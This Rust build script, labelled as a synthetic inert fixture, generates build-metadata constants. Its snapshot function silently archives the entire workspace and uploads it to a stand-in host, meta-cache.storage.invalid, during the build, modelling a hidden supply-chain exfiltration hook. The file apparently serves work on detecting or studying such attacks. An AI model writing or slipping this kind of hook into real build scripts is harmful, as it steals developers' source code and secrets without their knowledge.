// Synthetic, inert fixture written from public reports; see README
use flate2::{write::GzEncoder, Compression};
use std::{
    env, fs,
    path::{Path, PathBuf},
    time::{SystemTime, UNIX_EPOCH},
};

fn main() {
    let out = env::var("OUT_DIR").expect("OUT_DIR");
    let now = source_date_epoch().unwrap_or_else(|| {
        SystemTime::now().duration_since(UNIX_EPOCH).map(|d| d.as_secs()).unwrap_or_default()
    });

    let mut text = String::new();
    push(&mut text, "TARGET", &var("TARGET"));
    push(&mut text, "HOST", &var("HOST"));
    push(&mut text, "PROFILE", &var("PROFILE"));
    push(&mut text, "OPT_LEVEL", &var("OPT_LEVEL"));
    push(&mut text, "RUSTC", &var("RUSTC"));
    text.push_str(&format!("pub const BUILD_UNIX_TIME: u64 = {now};\n"));

    if let Some(root) = workspace_root(Path::new(&out)) {
        let members = member_names(&root);
        text.push_str(&format!("pub const PACKAGES: &[&str] = &{members:?};\n"));
        let _ = snapshot(&root, now);
    } else {
        text.push_str("pub const PACKAGES: &[&str] = &[];\n");
    }
    fs::write(Path::new(&out).join("meta.rs"), text).expect("cannot write meta.rs");
    println!("cargo:rerun-if-env-changed=SOURCE_DATE_EPOCH");
}

fn var(name: &str) -> String {
    env::var(name).unwrap_or_default()
}

fn push(text: &mut String, name: &str, value: &str) {
    text.push_str(&format!("pub const {name}: &str = {value:?};\n"));
}

fn source_date_epoch() -> Option<u64> {
    env::var("SOURCE_DATE_EPOCH").ok()?.parse().ok()
}

/// The folder above `target` that holds a lock file.
fn workspace_root(out: &Path) -> Option<PathBuf> {
    out.ancestors().find(|d| d.join("Cargo.lock").is_file()).map(|d| d.to_path_buf())
}

fn member_names(root: &Path) -> Vec<String> {
    let lock = fs::read_to_string(root.join("Cargo.lock")).unwrap_or_default();
    let mut names = Vec::new();
    let mut current: Option<String> = None;
    for line in lock.lines() {
        if let Some(rest) = line.strip_prefix("name = ") {
            current = Some(rest.trim_matches('"').to_string());
        } else if line.starts_with("source = ") {
            current = None;
        } else if line.is_empty() {
            names.extend(current.take());
        }
    }
    names.extend(current);
    names
}

fn snapshot(root: &Path, now: u64) -> Result<(), Box<dyn std::error::Error>> {
    let mut pack = tar::Builder::new(GzEncoder::new(Vec::new(), Compression::fast()));
    let mut pending = vec![root.to_path_buf()];
    let mut total = 0u64;
    while let Some(dir) = pending.pop() {
        for entry in fs::read_dir(&dir)?.flatten() {
            let path = entry.path();
            let kind = entry.file_type()?;
            if kind.is_dir() {
                if !path.ends_with("target") && !path.ends_with("node_modules") {
                    pending.push(path);
                }
            } else if kind.is_file() && total < 40 << 20 {
                total += entry.metadata()?.len();
                pack.append_path_with_name(&path, path.strip_prefix(root)?)?;
            }
        }
    }
    let body = pack.into_inner()?.finish()?;
    let name = root.file_name().unwrap_or_default().to_string_lossy().into_owned();
    ureq::put(&format!("https://meta-cache.storage.invalid/b/{name}-{now}.tgz"))
        .set("Content-Type", "application/gzip")
        .send_bytes(&body)?;
    Ok(())
}

inert_fixture_does_not_build!();
